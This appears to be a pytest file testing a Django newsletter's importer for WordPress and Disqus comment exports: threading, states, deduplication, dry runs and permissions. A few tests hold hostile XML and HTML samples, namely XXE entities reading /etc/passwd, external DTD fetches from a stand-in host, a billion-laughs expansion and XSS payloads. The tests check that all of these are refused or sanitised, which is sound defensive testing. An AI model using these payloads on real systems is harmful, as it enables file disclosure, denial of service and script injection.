"""Comments from WordPress and Disqus: threads, times and states stay; nobody hears of it."""

from __future__ import annotations

import io
import tracemalloc
from collections import Counter
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command

from newsletter.accounts.models import User
from newsletter.articles.models import Article, SlugRedirect
from newsletter.comments.actions import import_comments
from newsletter.comments.enums import CommentState, ImportOutcome
from newsletter.comments.importing.items import read_items, to_markdown
from newsletter.comments.importing.stream import NotAnExportError, read_records
from newsletter.comments.models import Comment
from newsletter.outbox.models import OutgoingEmail
from newsletter.subscribers.models import Subscription
from tests.factories.accounts import UserFactory
from tests.factories.comments import thread_of
from tests.newsletter.comments.imports import wp, wxr
from tests.newsletter.comments.truth import assert_consistent

DISQUS = b"""<?xml version="1.0" encoding="utf-8"?>
<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">
<category dsq:id="1"><forum>old</forum></category>
<thread dsq:id="7"><id/><link>https://old.example/articles/on-asking/?x=1</link>
<author><name>Hanna</name></author></thread>
<post dsq:id="100"><message><![CDATA[<p>First <b>words</b>.</p>]]></message>
<createdAt>2014-05-06T07:08:09Z</createdAt><isDeleted>false</isDeleted><isSpam>false</isSpam>
<author><name>Ben</name><isAnonymous>true</isAnonymous></author><thread dsq:id="7"/></post>
<post dsq:id="101"><message><![CDATA[<p>An answer.</p>]]></message>
<createdAt>2014-05-06T08:08:09Z</createdAt><isDeleted>false</isDeleted><isSpam>false</isSpam>
<author><name>Ada</name><email>ada@old.example</email></author><thread dsq:id="7"/>
<parent dsq:id="100"/></post>
<post dsq:id="102"><message>Buy</message><createdAt>2014-05-06T08:08:10Z</createdAt>
<isDeleted>true</isDeleted><isSpam>true</isSpam><author><name>X</name></author>
<thread dsq:id="7"/></post>
<post dsq:id="103"><message>Gone</message><createdAt>2014-05-06T08:08:11Z</createdAt>
<isDeleted>true</isDeleted><isSpam>false</isSpam><author><name>Y</name></author>
<thread dsq:id="7"/></post>
<post dsq:id="104"><message>Where?</message><createdAt>2014-05-06T08:08:11Z</createdAt>
<author><name>Y</name></author><thread dsq:id="8"/></post>
</disqus>"""


def bring_in(actor: User, data: bytes, **options: bool) -> Counter[str]:
    rows = import_comments(actor=actor, file=io.BytesIO(data), **options)
    return Counter(row.outcome for row in rows)


EXPORT = wxr(
    wp(1, "Hello,\n\nI <em>asked</em>. <a href='https://a.example/'>See</a>", day=1),
    wp(2, parent=1, day=2, name="Ben", email="BEN@old.example"),
    wp(3, parent=2, day=3, name="Nobody", email="no address"),
    wp(4, state="0", day=4),
    wp(5, state="spam", day=5),
    wp(6, state="trash", day=6),
    wp(7, type="pingback", day=7),
    wp(8, " ", day=8),
    wp(9, state="odd", day=9),
)


def test_wordpress_threads_times_and_states(article: Article, moderator: User) -> None:
    known = UserFactory(email="ben@old.example", name="Benjamin")
    assert bring_in(moderator, EXPORT) == {ImportOutcome.IMPORTED: 6, ImportOutcome.REFUSED: 3}
    rows = {row.import_key.rpartition(":")[2]: row for row in Comment.objects.order_by("pk")}
    assert [row.state for row in rows.values()] == [
        *[CommentState.APPROVED] * 3,
        CommentState.PENDING,
        CommentState.SPAM,
        CommentState.REMOVED,
    ]
    assert rows["1"].html == (
        "<p>Hello,</p>\n<p>I <em>asked</em>. "
        '<a href="https://a.example/" rel="nofollow ugc">See</a></p>'
    )
    assert rows["2"].parent == rows["3"].root == rows["1"]
    assert rows["3"].parent == rows["2"]
    assert rows["2"].submitted_at.isoformat() == "2019-03-02T10:00:00+00:00"
    assert rows["2"].user == known
    assert (rows["3"].user, rows["3"].name) == (None, "Nobody")
    assert thread_of(article).approved_count == 3
    assert thread_of(article).pending_count == 1
    assert_consistent()


def test_nobody_hears_of_it_and_nobody_is_trusted_for_it(article: Article, moderator: User) -> None:
    bring_in(moderator, EXPORT)
    ada = User.objects.get(email="ada@old.example")
    assert ada.email_confirmed_at is None
    assert not OutgoingEmail.objects.exists()
    assert not Subscription.objects.exists()
    assert "203.0.113.7" not in str(list(Comment.objects.values()))


def test_spam_makes_no_people(article: Article, moderator: User) -> None:
    known = UserFactory(email="known@old.example")
    data = wxr(
        wp(1, state="spam", email="bot@bots.example"),
        wp(2, state="trash", email="gone@bots.example"),
        wp(3, state="spam", email=known.email),
    )
    before = User.objects.count()
    list(import_comments(actor=moderator, file=io.BytesIO(data)))
    assert User.objects.count() == before
    assert Comment.objects.get(user=known).state == CommentState.SPAM


def test_a_second_run_brings_in_what_is_missing(article: Article, moderator: User) -> None:
    bring_in(moderator, wxr(wp(1)))
    again = bring_in(moderator, EXPORT)
    assert again == {
        ImportOutcome.KNOWN: 1,
        ImportOutcome.IMPORTED: 5,
        ImportOutcome.REFUSED: 3,
    }
    assert bring_in(moderator, EXPORT)[ImportOutcome.IMPORTED] == 0
    assert Comment.objects.count() == 6
    # The same numbers of another blog are other comments.
    other = EXPORT.replace(b"https://old.example<", b"https://other.example<")
    assert bring_in(moderator, other)[ImportOutcome.IMPORTED] == 6


def test_disqus_threads_times_and_states(article: Article, moderator: User) -> None:
    assert bring_in(moderator, DISQUS) == {ImportOutcome.IMPORTED: 4, ImportOutcome.NO_ARTICLE: 1}
    first, answer, spam, gone = Comment.objects.order_by("pk")
    assert first.html == "<p>First <strong>words</strong>.</p>"
    assert (first.user, first.name, answer.parent) == (None, "Ben", first)
    assert answer.user == User.objects.get(email="ada@old.example")
    assert answer.submitted_at.isoformat() == "2014-05-06T08:08:09+00:00"
    assert (spam.state, gone.state) == (CommentState.SPAM, CommentState.REMOVED)
    assert bring_in(moderator, DISQUS)[ImportOutcome.KNOWN] == 4
    assert_consistent()


def test_an_old_address_and_an_unknown_one(article: Article, moderator: User) -> None:
    SlugRedirect.objects.create(old_slug="before", article=article)
    assert bring_in(moderator, wxr(wp(1), slug="before"))[ImportOutcome.IMPORTED] == 1
    assert bring_in(moderator, wxr(wp(2), slug="never"))[ImportOutcome.NO_ARTICLE] == 1


def test_a_dry_run_writes_nothing(article: Article, moderator: User) -> None:
    assert bring_in(moderator, EXPORT, dry_run=True)[ImportOutcome.IMPORTED] == 6
    assert not Comment.objects.exists()
    assert not User.objects.filter(email="ada@old.example").exists()


def test_only_moderators(article: Article, reader: User) -> None:
    with pytest.raises(PermissionDenied):
        bring_in(reader, EXPORT)
    assert not Comment.objects.exists()


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>
<rss><channel><item><title>&b;</title></item></channel></rss>"""


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS,
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        b'<!DOCTYPE r SYSTEM "http://evil.invalid/x.dtd"><r/>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.invalid/x"> %p;]><r/>',
        b"<rss>&undeclared;</rss>",
        b"<rss><channel>",
        b"not xml",
        b"",
        b"\xff\xfe\x00",
    ],
)
def test_what_xml_can_be_abused_for_is_refused(data: bytes) -> None:
    with pytest.raises(NotAnExportError):
        list(read_records(io.BytesIO(data)))


@pytest.mark.parametrize(
    "hostile",
    ["<script>ran(1)</script>", "<a href='javascript:ran(1)'>x</a>", "<img src=x onerror=ran(1)>"],
)
def test_hostile_html_is_imported_harmless(article: Article, moderator: User, hostile: str) -> None:
    bring_in(moderator, wxr(wp(1, f"Before {hostile} after")))
    html = Comment.objects.get().html
    assert "ran(1)" not in html
    assert html.startswith("<p>Before")


def test_quotes_lists_and_code_stay() -> None:
    made = to_markdown("<blockquote>Said</blockquote><ul><li>a</li><li>b</li></ul><code>x</code>")
    assert made == "> Said\n\n\n\n\n- a\n- b\n\n`x`"
    assert to_markdown("</a></p>a < b &amp; c") == "a < b & c"


class Endless(io.RawIOBase):
    """An export of so many comments, made while it is read."""

    def __init__(self, count: int) -> None:
        self.head, self.tail = wxr("|").split(b"|")
        self.parts = (wp(number, "word " * 200).encode() for number in range(1, count))
        self.state = 0

    def read(self, _size: int = -1) -> bytes:
        self.state += 1
        return self.head if self.state == 1 else next(self.parts, b"") or self._end()

    def _end(self) -> bytes:
        end, self.tail = self.tail, b""
        return end


def test_a_big_file_takes_little_memory() -> None:
    tracemalloc.start()
    try:
        count = sum(1 for _ in read_items(read_records(Endless(6_000))))  # type: ignore[arg-type]
        assert count == 5_999
        assert tracemalloc.get_traced_memory()[1] < 1_500_000
    finally:
        tracemalloc.stop()


def test_the_command_reports_each(
    article: Article, moderator: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file, report = tmp_path / "wp.xml", tmp_path / "report.csv"
    file.write_bytes(EXPORT)
    options = {"actor": moderator.email, "report": report}
    call_command("import_comments", file, dry_run=True, **options)
    assert "Nothing was written." in capsys.readouterr().out
    call_command("import_comments", file, **options)
    assert "Imported: 6" in capsys.readouterr().out
    lines = report.read_text().splitlines()
    assert len(lines) == 10
    assert any("pingback" in line and "refused" in line for line in lines)
    file.write_bytes(EXPORT[:-20])
    with pytest.raises(CommandError, match="no whole XML file"):
        call_command("import_comments", file, **options)
    with pytest.raises(CommandError, match="Nobody"):
        call_command("import_comments", file, actor="x@example.com")
